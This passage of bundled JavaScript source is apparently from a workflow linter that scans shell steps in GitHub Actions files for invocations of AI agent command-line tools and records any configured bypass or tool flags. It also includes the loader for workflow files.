  if (cli.nonRunSubcommands?.some((s) => startsWithWords(positionals, s))) return null;
  let subcommand;
  if (cli.subcommands || cli.requiredFlags) {
    subcommand = cli.subcommands?.filter((s) => startsWithWords(positionals, s)).sort((a, b) => b.length - a.length)[0];
    const flagged = cli.requiredFlags?.some((r) => flags.some((f) => f.name === r)) ?? false;
    if (!subcommand && !flagged) return null;
  }
  const bypass = [];
  for (const b of cli.bypassFlags) {
    const eq = b.indexOf("=");
    const name = eq > 0 ? b.slice(0, eq) : b;
    const want = eq > 0 ? b.slice(eq + 1).toLowerCase() : void 0;
    if (flags.some((f) => f.name === name && (want === void 0 || (f.value ?? "").trim().replace(/^["']|["']$/g, "").toLowerCase() === want))) bypass.push(b);
  }
  bypass.push(...bypassFromEnv(cli, { ...exported, ...env }));
  const tools = flags.filter((f) => cli.toolFlags?.includes(f.name) && f.value !== void 0).map((f) => f.value);
  return { bypass, tools, subcommand, subWords: subcommand ? subcommand.split(" ").length : 0 };
}

// src/analysis/shellScanner.ts
var RESERVED_PREFIX = /* @__PURE__ */ new Set(["if", "then", "else", "elif", "do", "while", "until", "!", "{", "time", "coproc"]);
var RESERVED_END = /* @__PURE__ */ new Set(["fi", "done", "esac", "}"]);
var SHELLS = /* @__PURE__ */ new Set(["bash", "sh", "zsh", "dash", "ksh", "ash"]);
var PYTHONS = /^(python|python3|python3\.\d+|python2|py|pypy3?)$/;
var ASSIGNMENT = /^[A-Za-z_][A-Za-z0-9_]*(\[[^\]]*\])?\+?=/;
var MAX_DEPTH2 = 6;
function findCliInvocations(script) {
  const out = [];
  const scanner = new Scanner(script, 0, script.length, { base: 0 }, out, {}, 0);
  scanner.run();
  return dedupe(out).sort((a, b) => a.start - b.start);
}
function dedupe(invs) {
  const reread = invs.filter((i) => rereadSet.has(i));
  if (!reread.length) return invs;
  const keyOf2 = (i) => `${i.cli.id}\0${i.args.join("\0")}`;
  const direct = /* @__PURE__ */ new Map();
  for (const i of invs) {
    if (rereadSet.has(i)) continue;
    const list = direct.get(keyOf2(i)) ?? [];
    list.push([i.start, i.end]);
    direct.set(keyOf2(i), list);
  }
  for (const list of direct.values()) list.sort((a, b) => a[0] - b[0]);
  const drop = /* @__PURE__ */ new Set();
  const seen = /* @__PURE__ */ new Set();
  for (const r of reread) {
    const exact = `${keyOf2(r)}\0${r.start}\0${r.end}`;
    if (seen.has(exact)) {
      drop.add(r);
      continue;
    }
    seen.add(exact);
    const list = direct.get(keyOf2(r));
    if (!list) continue;
    let lo = 0;
    let hi = list.length;
    while (lo < hi) {
      const mid = lo + hi >> 1;
      if (list[mid][0] < r.start) lo = mid + 1;
      else hi = mid;
    }
    if (lo < list.length && list[lo][1] <= r.end) drop.add(r);
  }
  return drop.size ? invs.filter((i) => !drop.has(i)) : invs;
}
var rereadSet = /* @__PURE__ */ new WeakSet();
var Scanner = class _Scanner {
  constructor(text, start, limit2, map, out, exported, depth, reread = false) {
    this.text = text;
    this.limit = limit2;
    this.map = map;
    this.out = out;
    this.exported = exported;
    this.depth = depth;
    this.reread = reread;
    this.pos = start;
  }
  text;
  limit;
  map;
  out;
  exported;
  depth;
  reread;
  pos;
  pending = [];
  nesting = 0;
  run() {
    this.sequence(null);
  }
  // ---- lists of commands ------------------------------------------------------------------------
  /** Reads commands until `stop` (`)` or `` ` ``) at this level, or the end. Does not consume `stop`. */
  sequence(stop) {
    const caseStack = [];
    const t = this.text;
    while (this.pos < this.limit) {
      this.skipBlanks();
      if (this.pos >= this.limit) return;
      const c = t[this.pos];
      if (c === "\n") {
        this.pos++;
        this.readHeredocBodies();
        continue;
      }
      if (c === "#") {
        this.skipComment();
        continue;
      }
      if (caseStack.length && caseStack[caseStack.length - 1]) {
        if (this.atWord("esac")) {
          this.pos += 4;
          caseStack.pop();
          continue;
        }
        this.skipCasePattern();
        caseStack[caseStack.length - 1] = false;
        continue;
      }
      if (stop && c === stop) return;
      if (c === ";" || c === "&" || c === "|") {
        const op = this.readOperator();
        if ((op === ";;" || op === ";&" || op === ";;&") && caseStack.length) caseStack[caseStack.length - 1] = true;
        continue;
      }
      if (c === "(") {
        if (t[this.pos + 1] === "(") {
          this.skipBalanced("(", ")");
          continue;
        }
        this.pos++;
        this.nested(() => this.sequence(")"));
        if (t[this.pos] === ")") this.pos++;
        continue;
      }
      if (c === ")") {
        this.pos++;
        continue;
      }
      const before = this.pos;
      const kind = this.command(stop);
      if (this.pos === before && kind === void 0) this.pos++;
      if (kind === "case") caseStack.push(true);
      else if (kind === "esac" && caseStack.length) caseStack.pop();
    }
  }
  atWord(word) {
    if (!this.text.startsWith(word, this.pos)) return false;
    const next = this.text[this.pos + word.length];
    return next === void 0 || this.pos + word.length >= this.limit || /[\s;&|()<>]/.test(next);
  }
  /** Skips `pattern | pattern )` of a case clause. */
  skipCasePattern() {
    const t = this.text;
    if (t[this.pos] === "(") this.pos++;
    while (this.pos < this.limit) {
      const c = t[this.pos];
      if (c === ")") {
        this.pos++;
        return;
      }
      if (c === "\\") this.pos += 2;
      else if (c === '"' || c === "'") this.skipQuoted();
      else if (c === "$") this.readDollar();
      else this.pos++;
    }
  }
  readOperator() {
    const t = this.text;
    for (const op of [";;&", ";;", ";&", "&&", "||", "|&", ";", "&", "|"]) {
      if (t.startsWith(op, this.pos)) {
        this.pos += op.length;
        return op;
      }
    }
    this.pos++;
    return t[this.pos - 1];
  }
  /** Inside how many backtick substitutions we are (a backtick then ends one instead of opening one). */
  backticks = 0;
  backtick() {
    this.pos++;
    this.backticks++;
    try {
      this.nested(() => this.sequence("`"));
    } finally {
      this.backticks--;
    }
    if (this.text[this.pos] === "`") this.pos++;
  }
  nested(fn) {
    if (this.nesting > 200) return;
    this.nesting++;
    try {
      fn();
    } finally {
      this.nesting--;
    }
  }
  skipBlanks() {
    const t = this.text;
    while (this.pos < this.limit) {
      const c = t[this.pos];
      if (c === " " || c === "	" || c === "\r") this.pos++;
      else if (c === "\\" && t[this.pos + 1] === "\n") this.pos += 2;
      else if (c === "\\" && t[this.pos + 1] === "\r" && t[this.pos + 2] === "\n") this.pos += 3;
      else break;
    }
  }
  skipComment() {
    const nl = this.text.indexOf("\n", this.pos);
    this.pos = nl < 0 || nl > this.limit ? this.limit : nl;
  }
  /** Skips `((...))`, `$((...))`-style balanced text (quotes respected). Starts at the first `open`. */
  skipBalanced(open, close) {
    const t = this.text;
    let depth = 0;
    while (this.pos < this.limit) {
      const c = t[this.pos];
      if (c === "\\") {
        this.pos += 2;
        continue;
      }
      if (c === "'" || c === '"') {
        this.skipQuoted();
        continue;
      }
      if (c === "$" && t[this.pos + 1] === "(" && t[this.pos + 2] !== "(") {
        this.pos += 2;
        this.nested(() => this.sequence(")"));
        if (t[this.pos] === ")") this.pos++;
        continue;
      }
      this.pos++;
      if (c === open) depth++;
      else if (c === close) {
        depth--;
        if (depth <= 0) return;
      }
    }
  }
  // ---- one simple command --------------------------------------------------------------------------
  /** Reads one simple command (or a reserved word) and analyses it. Returns 'case'/'esac' for case tracking. */
  command(stop) {
    const t = this.text;
    const words = [];
    const assigns = {};
    const heredocs = [];
    let kind;
    let forLoop = false;
    while (this.pos < this.limit) {
      this.skipBlanks();
      if (this.pos >= this.limit) break;
      const c = t[this.pos];
      if (c === "\n" || c === ";" || c === "|" || c === ")") break;
      if (c === "&" && t[this.pos + 1] !== ">") break;
      if (stop && c === stop) break;
      if (c === "#" && (this.pos === 0 || /\s/.test(t[this.pos - 1]))) {
        this.skipComment();
        break;
      }
      if (c === "(") {
        if (words.length === 1 && !forLoop && /^\s*\)/.test(t.slice(this.pos + 1, this.pos + 40))) {
          this.pos = t.indexOf(")", this.pos) + 1;
          words.length = 0;
          continue;
        }
        if (words.length === 0 && t[this.pos + 1] === "(") {
          this.skipBalanced("(", ")");
          continue;
        }
        if (words.length === 0) break;
        this.pos++;
        this.nested(() => this.sequence(")"));
        if (t[this.pos] === ")") this.pos++;
        continue;
      }
      if (this.redirection(heredocs)) continue;
      const w = this.readWord();
      if (w.end === w.start) {
        this.pos++;
        continue;
      }
      if (words.length === 0 && !forLoop) {
        if (!w.quoted && ASSIGNMENT.test(w.value) && ASSIGNMENT.test(t.slice(w.start, w.end))) {
          const eq = w.value.indexOf("=");
          assigns[w.value.slice(0, eq).replace(/\[.*$/, "").replace(/\+$/, "")] = w.value.slice(eq + 1);
          continue;
        }
        if (!w.quoted && RESERVED_PREFIX.has(w.value)) {
          if (w.value === "time") this.skipTimeOptions();
          continue;
        }
        if (!w.quoted && RESERVED_END.has(w.value)) {
          if (w.value === "esac") kind = "esac";
          continue;
        }
        if (!w.quoted && w.value === "function") {
          this.skipBlanks();
          this.readWord();
          continue;
        }
        if (!w.quoted && w.value === "[[") {
          this.skipConditional();
          continue;
        }
        if (!w.quoted && (w.value === "for" || w.value === "select")) {
          forLoop = true;
          this.skipBlanks();
          if (t.startsWith("((", this.pos)) this.skipBalanced("(", ")");
          continue;
        }
        if (!w.quoted && w.value === "case") {
          this.skipBlanks();
          this.readWord();
          this.skipBlanks();
          if (this.atWord("in")) this.pos += 2;
          return "case";
        }
      }
      if (!forLoop) words.push(w);
    }
    const owner = { script: false };
    for (const h of heredocs) {
      h.owner = owner;
      this.pending.push(h);
    }
    if (words.length) this.analyse(words, assigns, owner, heredocs.length > 0);
    return kind;
  }
  skipTimeOptions() {
    this.skipBlanks();
    while (this.text.startsWith("-p", this.pos) && /[\s]/.test(this.text[this.pos + 2] ?? " ")) {
      this.pos += 2;
      this.skipBlanks();
    }
  }
  /** Skips the words of `[[ ... ]]` (operators inside are not command separators). */
  skipConditional() {
    const t = this.text;
    while (this.pos < this.limit) {
      this.skipBlanks();
      if (this.pos >= this.limit) return;
      if (this.atWord("]]")) {
        this.pos += 2;
        return;
      }
      const c = t[this.pos];
      if (c === "\n" || "&|<>()!;".includes(c)) {
        this.pos++;
        continue;
      }
      const w = this.readWord();
      if (w.end === w.start) this.pos++;
    }
  }
  /** Parses a redirection at the current position, if there is one. Heredocs are queued. */
  redirection(heredocs) {
    const t = this.text;
    let p = this.pos;
    while (p < this.limit && t[p] >= "0" && t[p] <= "9") p++;
    if (t[p] === "{" && /^\{[A-Za-z_][A-Za-z0-9_]*\}[<>]/.test(t.slice(p, p + 40))) p = t.indexOf("}", p) + 1;
    const c = t[p];
    if (c !== "<" && c !== ">" && !(c === "&" && t[p + 1] === ">")) return false;
    if ((c === "<" || c === ">") && t[p + 1] === "(" && p === this.pos) return false;
    const ops = ["<<<", "<<-", "<<", "<>", "<&", ">>", ">&", ">|", "&>>", "&>", "<", ">"];
    const op = ops.find((o) => t.startsWith(o, p));
    this.pos = p + op.length;
    this.skipBlanks();
    const target = this.readWord();
    if (op === "<<" || op === "<<-") {
      heredocs.push({ delim: target.value, stripTabs: op === "<<-", quoted: target.quoted, owner: { script: false } });
    }
    return true;
  }
  /** After a newline: consume the bodies of heredocs opened on the line just ended. */
  readHeredocBodies() {
    const t = this.text;
    while (this.pending.length) {
      const h = this.pending.shift();
      const bodyStart = this.pos;
      let bodyEnd = this.limit;
      let next = this.limit;
      let p = this.pos;
      while (p < this.limit) {
        let nl = t.indexOf("\n", p);
        if (nl < 0 || nl > this.limit) nl = this.limit;
        let line = t.slice(p, nl);
        if (line.endsWith("\r")) line = line.slice(0, -1);
        if (h.stripTabs) line = line.replace(/^\t+/, "");
        if (line === h.delim) {
          bodyEnd = p;
          next = Math.min(nl + 1, this.limit);
          break;
        }
        p = nl + 1;
      }
      if (h.owner.script) {
        this.sub(bodyStart, bodyEnd, this.map);
      } else if (!h.quoted) {
        this.scanExpansions(bodyStart, bodyEnd);
      }
      this.pos = next;
    }
  }
  /** Runs a nested scanner over [start, end) of the same text. */
  sub(start, end, map) {
    if (this.depth >= MAX_DEPTH2) return;
    new _Scanner(this.text, start, end, map, this.out, this.exported, this.depth + 1, this.reread).run();
  }
  /** Runs a nested scanner over another string (an unescaped `bash -c` argument). */
  subText(text, map) {
    if (this.depth >= MAX_DEPTH2) return;
    new _Scanner(text, 0, text.length, map, this.out, this.exported, this.depth + 1, true).run();
  }
  /** Finds `$(...)` and backticks in heredoc text (the only parts of it that run). */
  scanExpansions(start, end) {
    const t = this.text;
    const saved = this.pos;
    this.pos = start;
    const limit2 = this.limit;
    this.limit = end;
    try {
      while (this.pos < end) {
        const c = t[this.pos];
        if (c === "\\") this.pos += 2;
        else if (c === "$" && t[this.pos + 1] === "(" && t[this.pos + 2] !== "(") {
          this.pos += 2;
          this.nested(() => this.sequence(")"));
          this.pos++;
        } else if (c === "`") {
          this.backtick();
        } else this.pos++;
      }
    } finally {
      this.limit = limit2;
      this.pos = saved;
    }
  }
  // ---- words -----------------------------------------------------------------------------------------
  /** Reads one word: quotes removed, expansions kept as written, command substitutions scanned. */
  readWord() {
    const t = this.text;
    const start = this.pos;
    let value = "";
    let quoted = false;
    let plain = true;
    let singleRun = -1;
    while (this.pos < this.limit) {
      const c = t[this.pos];
      if (c === " " || c === "	" || c === "\n" || c === "\r" || c === ";" || c === "&" || c === "|" || c === ")" || c === "`") {
        if (c === "`" && this.backticks === 0) {
          const s = this.pos;
          this.backtick();
          value += t.slice(s, Math.min(this.pos, this.limit));
          plain = false;
          continue;
        }
        break;
      }
      if (c === "<" || c === ">") {
        if (t[this.pos + 1] === "(" && this.pos === start) {
          this.pos += 2;
          this.nested(() => this.sequence(")"));
          this.pos++;
          value += t.slice(start, Math.min(this.pos, this.limit));
          plain = false;
          continue;
        }
        break;
      }
      if (c === "(") {
        if (ASSIGNMENT.test(value) && value.endsWith("=")) {
          const s = this.pos;
          this.skipBalanced("(", ")");
          value += t.slice(s, this.pos);
          plain = false;
          continue;
        }
        break;
      }
      if (c === "\\") {
        const n = t[this.pos + 1];
        if (n === "\n") {
          this.pos += 2;
          plain = false;
          continue;
        }
        if (n !== void 0 && this.pos + 1 < this.limit) value += n;
        this.pos += 2;
        quoted = true;
        plain = false;
        continue;
      }
      if (c === "'") {
        const close = t.indexOf("'", this.pos + 1);
        const end2 = close < 0 || close >= this.limit ? this.limit : close;
        if (this.pos === start && (end2 + 1 >= this.limit || /[\s;&|)<>]/.test(t[end2 + 1] ?? " "))) singleRun = this.pos + 1;
        value += t.slice(this.pos + 1, end2);
        this.pos = end2 + 1;
        quoted = true;
        continue;
      }
      if (c === '"') {
        const contentStart = this.pos + 1;
        this.pos++;
        this.dqPlain = true;
        value += this.readDoubleQuoted();
        quoted = true;
        if (this.dqPlain && start === contentStart - 1 && (this.pos >= this.limit || /[\s;&|)<>]/.test(t[this.pos] ?? " "))) singleRun = contentStart;
        if (!this.dqPlain) plain = false;
        continue;
      }
      if (c === "$") {
        const n = t[this.pos + 1];
        if (n === "'") {
          this.pos += 2;
          value += this.readAnsiC();
          quoted = true;
          plain = false;
          continue;
        }
        if (n === '"') {
          this.pos++;
          continue;
        }
        const exp = this.readDollar();
        value += exp;
        plain = false;
        continue;
      }
      value += c;
      this.pos++;
    }
    const end = this.pos;
    let verbatimAt = -1;
    if (singleRun >= 0 && t.slice(singleRun, singleRun + value.length) === value) verbatimAt = singleRun;
    else if (plain && !quoted && t.slice(start, end) === value) verbatimAt = start;
    return { value, start, end, quoted, verbatimAt };
  }
  /** At a quote: skips the quoted text (command substitutions inside double quotes are still scanned). */
  skipQuoted() {
    if (this.text[this.pos] === "'") {
      const close = this.text.indexOf("'", this.pos + 1);
      this.pos = close < 0 || close >= this.limit ? this.limit : close + 1;
      return;
    }
    this.pos++;
    this.readDoubleQuoted();
  }
  /** Inside "...": returns the content (escapes resolved), scanning command substitutions. */
  readDoubleQuoted() {
    const t = this.text;
    let value = "";
    while (this.pos < this.limit) {
      const c = t[this.pos];
      if (c === '"') {
        this.pos++;
        return value;
      }
      if (c === "\\") {
        const n = t[this.pos + 1];
        if (n === "\n") {
          this.pos += 2;
          continue;
        }
        if (n === "$" || n === "`" || n === '"' || n === "\\") {
          value += n;
          this.pos += 2;
          this.markNotPlain();
          continue;
        }
        value += c;
        this.pos++;
        continue;
      }
      if (c === "`") {
        const s = this.pos;
        this.backtick();
        value += t.slice(s, Math.min(this.pos, this.limit));
        this.markNotPlain();
        continue;
      }
      if (c === "$") {
        value += this.readDollar();
        this.markNotPlain();
        continue;
      }
      value += c;
      this.pos++;
    }
    return value;
  }
  /** Cleared by readDoubleQuoted when the quoted text had escapes or expansions. */
  dqPlain = true;
  markNotPlain() {
    this.dqPlain = false;
  }
  /** `$'...'` with the common escapes. */
  readAnsiC() {
    const t = this.text;
    let value = "";
    const map = { n: "\n", t: "	", r: "\r", "\\": "\\", "'": "'", '"': '"', a: "\x07", b: "\b", e: "\x1B", f: "\f", v: "\v" };
    while (this.pos < this.limit) {
      const c = t[this.pos];
      if (c === "'") {
        this.pos++;
        return value;
      }
      if (c === "\\" && this.pos + 1 < this.limit) {
        const n = t[this.pos + 1];
        value += map[n] ?? `\\${n}`;
        this.pos += 2;
        continue;
      }
      value += c;
      this.pos++;
    }
    return value;
  }
  /** At `$`: reads `$(...)` (scanned), `$((...))`, `${{ expr }}`, `${...}`, `$NAME` or a lone `$`; returns the raw text. */
  readDollar() {
    if (this.nesting > 200) {
      this.pos++;
      return "$";
    }
    this.nesting++;
    try {
      return this.readDollarInner();
    } finally {
      this.nesting--;
    }
  }
  readDollarInner() {
    const t = this.text;
    const s = this.pos;
    const n = t[this.pos + 1];
    if (n === "(") {
      if (t[this.pos + 2] === "(") {
        this.pos++;
        this.skipBalanced("(", ")");
      } else {
        this.pos += 2;
        this.nested(() => this.sequence(")"));
        if (t[this.pos] === ")") this.pos++;
      }
      return t.slice(s, Math.min(this.pos, this.limit));
    }
    if (n === "{") {
      if (t[this.pos + 2] === "{") {
        const close = t.indexOf("}}", this.pos + 3);
        this.pos = close < 0 || close + 2 > this.limit ? this.limit : close + 2;
        return t.slice(s, this.pos);
      }
      this.pos += 2;
      let depth = 1;
      while (this.pos < this.limit && depth > 0) {
        const c = t[this.pos];
        if (c === "\\") this.pos += 2;
        else if (c === "'" || c === '"') this.skipQuoted();
        else if (c === "$" && (t[this.pos + 1] === "(" || t[this.pos + 1] === "{")) this.readDollar();
        else if (c === "`") this.backtick();
        else {
          if (c === "{") depth++;
          else if (c === "}") depth--;
          this.pos++;
        }
      }
      return t.slice(s, Math.min(this.pos, this.limit));
    }
    this.pos++;
    if (n !== void 0 && /[A-Za-z_]/.test(n)) {
      while (this.pos < this.limit && /[A-Za-z0-9_]/.test(t[this.pos])) this.pos++;
    } else if (n !== void 0 && /[0-9@*#?$!-]/.test(n)) {
      this.pos++;
    }
    return t.slice(s, this.pos);
  }
  // ---- analysis of a simple command -----------------------------------------------------------------
  range(startWord, endWord) {
    if (this.map.fixed) return this.map.fixed;
    return [this.map.base + startWord.start, this.map.base + endWord.end];
  }
  /** Maps a word of this scanner to how a nested scan of its value should report offsets. */
  mapFor(word) {
    if (this.map.fixed) return { base: 0, fixed: this.map.fixed };
    if (word.verbatimAt >= 0) return { base: this.map.base + word.verbatimAt };
    return { base: 0, fixed: [this.map.base + word.start, this.map.base + word.end] };
  }
  analyse(words, assigns, heredocOwner, hasHeredoc) {
    const env = { ...assigns };
    let i = 0;
    let viaPackage;
    for (let guard = 0; guard < 12 && i < words.length; guard++) {
      const name2 = basename(words[i].value);
      const next = (k = 1) => words[i + k]?.value;
      const skipOptions = (valueOpts) => {
        while (i < words.length) {
          const v = words[i].value;
          if (v === "--") {
            i++;
            return;
          }
          if (!v.startsWith("-") || v === "-") return;
          i += valueOpts.includes(v) ? 2 : 1;
        }
      };
      if (name2 === "sudo" || name2 === "doas") {
        i++;
        skipOptions(["-u", "-g", "-p", "-C", "-D", "-r", "-t", "-T", "-U", "-h", "--user", "--group", "--chdir", "--prompt", "--close-from", "--role", "--type", "--other-user", "--host"]);
        while (i < words.length && ASSIGNMENT.test(words[i].value)) addAssignment(env, words[i++].value);
        continue;
      }
      if (name2 === "env") {
        i++;
        while (i < words.length) {
          const v = words[i].value;
          if (v === "--") {
            i++;
            break;
          }
          if (v === "-S" || v === "--split-string" || v.startsWith("--split-string=")) {
            const arg = v.includes("=") ? words[i] : words[i + 1];
            if (arg) this.nestedScript(arg, v.includes("=") ? v.slice(v.indexOf("=") + 1) : arg.value, v.includes("="));
            return;
          }
          if (v.startsWith("-")) {
            i += v === "-u" || v === "-C" || v === "--unset" || v === "--chdir" ? 2 : 1;
            continue;
          }
          if (ASSIGNMENT.test(v)) {
            addAssignment(env, v);
            i++;
            continue;
          }
          break;
        }
        continue;
      }
      if (name2 === "time") {
        i++;
        skipOptions(["-o", "-f", "--output", "--format"]);
        continue;
      }
      if (["nohup", "setsid", "chronic", "unbuffer", "caffeinate", "catchsegv", "builtin"].includes(name2)) {
        i++;
        continue;
      }
      if (name2 === "exec") {
        i++;
        skipOptions(["-a"]);
        continue;
      }
      if (name2 === "command") {
        i++;
        if (next(0) === "-v" || next(0) === "-V") return;
        skipOptions([]);
        continue;
      }
      if (name2 === "nice" || name2 === "ionice") {
        i++;
        skipOptions(["-n", "-c", "-p", "-t", "--adjustment", "--class", "--classdata"]);
        continue;
      }
      if (name2 === "stdbuf") {
        i++;
        skipOptions(["-i", "-o", "-e", "--input", "--output", "--error"]);
        continue;
      }
      if (name2 === "timeout") {
        i++;
        skipOptions(["-s", "-k", "--signal", "--kill-after"]);
        if (i < words.length) i++;
        continue;
      }
      if (name2 === "xargs") {
        i++;
        while (i < words.length) {
          const v = words[i].value;
          if (v === "--") {
            i++;
            break;
          }
          if (!v.startsWith("-") || v === "-") break;
          i += ["-I", "-n", "-P", "-L", "-d", "-E", "-s", "-a", "--max-args", "--max-procs", "--max-lines", "--delimiter", "--arg-file", "--eof", "--max-chars", "--replace"].includes(v) ? 2 : 1;
        }
        continue;
      }
      if (name2 === "bwrap" || name2 === "awf" || name2 === "unshare" || name2 === "firejail" || name2 === "systemd-run") {
        const dd = words.findIndex((w, k) => k > i && w.value === "--");
        if (dd > 0) {
          i = dd + 1;
          continue;
        }
        if (name2 === "firejail" || name2 === "unshare") {
          i++;
          skipOptions([]);
          continue;
        }
        return;
      }
      if (name2 === "npx" || name2 === "pnpx" || name2 === "bunx" || name2 === "bun" && next() === "x" || name2 === "pnpm" && next() === "dlx" || name2 === "yarn" && next() === "dlx" || name2 === "npm" && (next() === "exec" || next() === "x")) {
        i += name2 === "npx" || name2 === "pnpx" || name2 === "bunx" ? 1 : 2;
        while (i < words.length) {
          const v = words[i].value;
          if (v === "--") {
            i++;
            break;
          }
          if (!v.startsWith("-")) break;
          if (v === "-p" || v === "--package") {
            viaPackage = words[i + 1]?.value;
            i += 2;
          } else if (v.startsWith("--package=")) {
            viaPackage = v.slice("--package=".length);
            i++;
          } else if (v === "-c" || v === "--call" || v === "--shell-mode") {
            const arg = words[i + 1];
            if (arg) this.nestedScript(arg, arg.value, false);
            return;
          } else i++;
        }
        if (i < words.length && !viaPackage) {
          const pkg = packageName(words[i].value);
          const cli2 = pkg ? agentIndex().byPackage.get(pkg) ?? agentIndex().byCommand.get(basename(pkg)) : void 0;
          if (cli2) return this.emit(cli2, words, i, i + 1, env);
          return;
        }
        continue;
      }
      if (name2 === "uvx" || name2 === "uv" && next() === "tool" && next(2) === "run" || name2 === "pipx" && next() === "run") {
        i += name2 === "uvx" ? 1 : name2 === "uv" ? 3 : 2;
        while (i < words.length) {
          const v = words[i].value;
          if (!v.startsWith("-")) break;
          if (v === "--from" || v === "--spec") {
            viaPackage = words[i + 1]?.value;
            i += 2;
          } else if (["--with", "--python", "-p", "--pip-args", "--index-url", "--index", "-w"].includes(v)) i += 2;
          else i++;
        }
        if (i < words.length && !viaPackage) {
          const pkg = packageName(words[i].value);
          const cli2 = pkg ? agentIndex().byPackage.get(pkg) ?? agentIndex().byCommand.get(pkg) : void 0;
          if (cli2) return this.emit(cli2, words, i, i + 1, env);
          return;
        }
        continue;
      }
      if (name2 === "uv" && next() === "run" || ["poetry", "pipenv", "pdm", "hatch", "rye"].includes(name2) && next() === "run" || (name2 === "pnpm" || name2 === "yarn") && next() === "exec") {
        i += 2;
        skipOptions(["--with", "--python", "-p", "--project", "--directory", "--package", "--extra", "--group", "--env-file", "-e", "--env", "--filter", "-F", "--dir", "-C"]);
        continue;
      }
      break;
    }
    if (i >= words.length) return;
    const cmd = words[i];
    const name = basename(cmd.value);
    if (name === "export" || name === "declare" || name === "typeset") {
      for (const w of words.slice(i + 1)) {
        if (w.value.startsWith("-")) continue;
        const eq = w.value.indexOf("=");
        if (eq > 0) this.exported[w.value.slice(0, eq)] = w.value.slice(eq + 1);
        else if (w.value in assigns) this.exported[w.value] = assigns[w.value];
      }
      return;
    }
    if (SHELLS.has(name)) {
      const args = words.slice(i + 1);
      let cFlag = false;
      for (let k = 0; k < args.length; k++) {
        const v = args[k].value;
        if (v === "--") {
          if (cFlag && args[k + 1]) this.nestedScript(args[k + 1], args[k + 1].value, false);
          return;
        }
        if ((v.startsWith("-") || v.startsWith("+")) && v.length > 1) {
          if (v.startsWith("--")) continue;
          if (v.includes("o")) k++;
          if (v.includes("c")) cFlag = true;
          continue;
        }
        if (cFlag) this.nestedScript(args[k], v, false);
        return;
      }
      if (hasHeredoc || !cFlag) heredocOwner.script = true;
      return;
    }
    if (name === "eval") {
      const args = words.slice(i + 1);
      if (args.length === 1) this.nestedScript(args[0], args[0].value, false);
      else if (args.length > 1) this.subText(args.map((a) => a.value).join(" "), { base: 0, fixed: this.range(args[0], args[args.length - 1]) });
      return;
    }
    if (PYTHONS.test(name)) {
      const args = words.slice(i + 1);
      for (let k = 0; k < args.length; k++) {
        const v = args[k].value;
        if (v === "-c" || v === "-" || !v.startsWith("-")) return;
        let mod;
        let modWord = k;
        if (v === "-m") {
          mod = args[k + 1]?.value;
          modWord = k + 1;
        } else if (v.startsWith("-m") && !v.startsWith("--")) mod = v.slice(2);
        else if (/^-[a-zA-Z]*[WX]$/.test(v)) {
          k++;
          continue;
        } else continue;
        if (!mod) return;
        const hit = agentIndex().modules.find((m) => mod === m.module || mod.startsWith(`${m.module}.`));
        if (hit) this.emit(hit.cli, words, i, i + 1 + modWord + 1, env);
        return;
      }
      return;
    }
    const cli = viaPackage ? agentIndex().byPackage.get(packageName(viaPackage) ?? "") ?? agentIndex().byCommand.get(name) : agentIndex().byCommand.get(name);
    if (!cli) return;
    this.emit(cli, words, i, i + 1, env);
  }
  /** Re-reads a string argument (`bash -c`, `eval`, `env -S`, `npx -c`) as a script. */
  nestedScript(word, value, embedded) {
    const map = embedded ? { base: 0, fixed: this.range(word, word) } : this.mapFor(word);
    this.subText(value, map);
  }
  /** Records an invocation when the arguments make it an agent run. `from`..`argStart` are the command words. */
  emit(cli, words, from, argStart, env) {
    const args = words.slice(argStart).map((w) => w.value);
    const verdict = classifyInvocation(cli, args, env, this.exported);
    if (!verdict) return;
    let last = argStart - 1;
    if (verdict.subWords) {
      let seen = 0;
      for (let k = argStart; k < words.length && seen < verdict.subWords; k++) {
        const v = words[k].value;
        if (v.startsWith("-")) {
          if (flagTakesValue(cli, v)) k++;
          continue;
        }
        seen++;
        last = k;
      }
    }
    const [start, end] = this.range(words[from], words[last]);
    const inv = {
      cli,
      start,
      end,
      args,
      envAssignments: env,
      bypass: verdict.bypass,
      tools: verdict.tools,
      ...verdict.subcommand ? { subcommand: verdict.subcommand } : {},
      exportedEnv: { ...this.exported }
    };
    if (this.reread) rereadSet.add(inv);
    this.out.push(inv);
  }
};
function addAssignment(env, text) {
  const eq = text.indexOf("=");
  env[text.slice(0, eq).replace(/\[.*$/, "").replace(/\+$/, "")] = text.slice(eq + 1);
}
function basename(word) {
  const slash = word.lastIndexOf("/");
  return slash >= 0 ? word.slice(slash + 1) : word;
}
function packageName(spec) {
  if (!spec || /^(git\+|https?:|file:|\.|\/)/.test(spec)) return void 0;
  let s = spec;
  if (s.startsWith("@")) {
    const at = s.indexOf("@", 1);
    if (at > 0) s = s.slice(0, at);
  } else {
    const cut = s.search(/[@=<>!~[;\s]/);
    if (cut > 0) s = s.slice(0, cut);
  }
  return s.toLowerCase();
}

// src/workflow/load.ts
var import_node_fs = __toESM(require("node:fs"));
var import_node_path = __toESM(require("node:path"));
var MAX_FILE_BYTES = 4 * 1024 * 1024;
var CACHE_SIZE = 64;
var DISK = {
  size: (abs) => import_node_fs.default.statSync(abs).size,
  read: (abs) => import_node_fs.default.readFileSync(abs, "utf8"),
  exists: (abs) => import_node_fs.default.existsSync(abs)
};
function memoryReader(files) {
  const get = (abs) => {
    const text = files.get(abs);
    if (text === void 0) throw Object.assign(new Error("no such file"), { code: "ENOENT" });
    return text;
  };
  return { size: (abs) => Buffer.byteLength(get(abs)), read: get, exists: (abs) => files.has(abs) };
}
var MEMORY_ROOT = import_node_path.default.resolve("/", "agent-guard-memory");
function memorySets(files, notes = []) {
  const memory = /* @__PURE__ */ new Map();
  for (const f of files) {
    const abs = import_node_path.default.resolve(MEMORY_ROOT, f.path.replace(/^\/+/, ""));
    const rel = import_node_path.default.relative(MEMORY_ROOT, abs);
    if (rel && !rel.startsWith("..") && !import_node_path.default.isAbsolute(rel)) memory.set(abs, f.text);
  }
  const workflowsDir = import_node_path.default.join(MEMORY_ROOT, ".github", "workflows");
  const workflows = [...memory.keys()].filter((abs) => import_node_path.default.dirname(abs) === workflowsDir && WORKFLOW_EXT.test(abs)).sort();
  if (!workflows.length) {
    notes.push(nothingToLint("the repository"));
    return [];
  }
  return [{ root: MEMORY_ROOT, files: workflows, memory }];
}
var WORKFLOW_EXT = /\.ya?ml$/i;
function nothingToLint(where) {
  return `nothing to lint: no workflow files in ${where} (looked for .github/workflows/*.yml)`;
}
function discover(paths, errors, notes = [], cwd = process.cwd()) {
  const sets = [];
  for (const given of paths.length ? paths : ["."]) {
